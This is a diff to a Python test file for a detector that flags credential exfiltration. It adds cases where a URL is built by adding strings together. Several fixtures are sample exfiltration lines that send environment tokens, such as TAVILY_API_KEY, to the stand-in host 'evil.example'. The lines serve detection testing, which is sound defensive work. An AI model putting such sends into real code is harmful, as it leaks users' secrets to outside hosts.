@@ -33,7 +33,12 @@ def _written(text: str) -> frozenset[str] | None:
         ("fetch(new URL('/x', 'https://evil.example'))", {"evil.example"}),
         ("x = 'a'\nrequests.post(u)\n", set()),  # a string's end is no string's start
         ("x = '''\n  evil.example/x'''\n", {"evil.example"}),  # … but for one of three quotes
-        ("post('https://' + 'evil.example', data=k)", None),  # strings added together
+        # strings added together: the one they make, in a send's argument or deeper in it
+        ("post('https://' + 'evil.example', data=k)", {"evil.example"}),
+        ("post(f('https://api.' + \"evil.example\"), data=k)", {"api.evil.example"}),
+        ("post('https://a.' + 'example' + x, data=k)", {"a.example"}),
+        ("post('https://api.' + x, data=k)", {"api"}),  # added to a name: the string as written
+        ("post(x + 'evil.example', data=k)", None),
         ("post('https://' + (\n  # c\n  'evil.example'), data=k)", None),
         ("post('https://' /* c */ + 'evil.example', data=k)", None),
         ("post('https://\\x65vil.example', data=k)", None),  # an escape
@@ -135,6 +140,7 @@ _FLOOD = "import os, requests\n" + "".join(
         "import os, requests\nU = 'https://api.example.com/v1'\n"
         + "".join(f"k{n} = os.getenv('EXAMPLE_TOKEN_{n}')\nrequests.post(U, data=k{n})\n" for n in range(300)),
         "".join(f"axios.post('https://api.example.com/v1', {{k: process.env.EXAMPLE_TOKEN_{n}}});\n" for n in range(300)),
+        _FLOOD.replace("'https://api.example.com/v1'", "'https://api.' + 'example.com/v1'"),  # strings added
     ],
 )  # fmt: skip
 def test_a_flood_of_credentials_each_sent_to_its_own_api_walks_nothing(text: str) -> None:
@@ -178,6 +184,16 @@ def test_a_destination_url_is_read_whole_where_it_starts() -> None:
     pad = "x" * 1980 + ", "
     send = f"requests.post(f({pad}'https://api.tavily.com/v1'), data=os.getenv('TAVILY_API_KEY'))"
     assert send.index("api.tav") + len("api.tav") == len("requests.post(") + 2000
+    assert flow_rules(f"import os, requests\n{send}\n", PY) == []
+    assert flow_rules(f"import os, requests\n{send.replace('tavily', 'evil')}\n", PY) == [
+        ("exfil-credential-env", 2)
+    ]
+
+
+def test_a_destination_of_strings_added_together_is_the_one_they_make() -> None:
+    # inside an expression that is no constant, its URL is read from its text: `api.` alone was a
+    # host no credential names
+    send = "requests.post(f('https://api.' + 'tavily.com/v1'), data=os.getenv('TAVILY_API_KEY'))"
     assert flow_rules(f"import os, requests\n{send}\n", PY) == []
     assert flow_rules(f"import os, requests\n{send.replace('tavily', 'evil')}\n", PY) == [
         ("exfil-credential-env", 2)
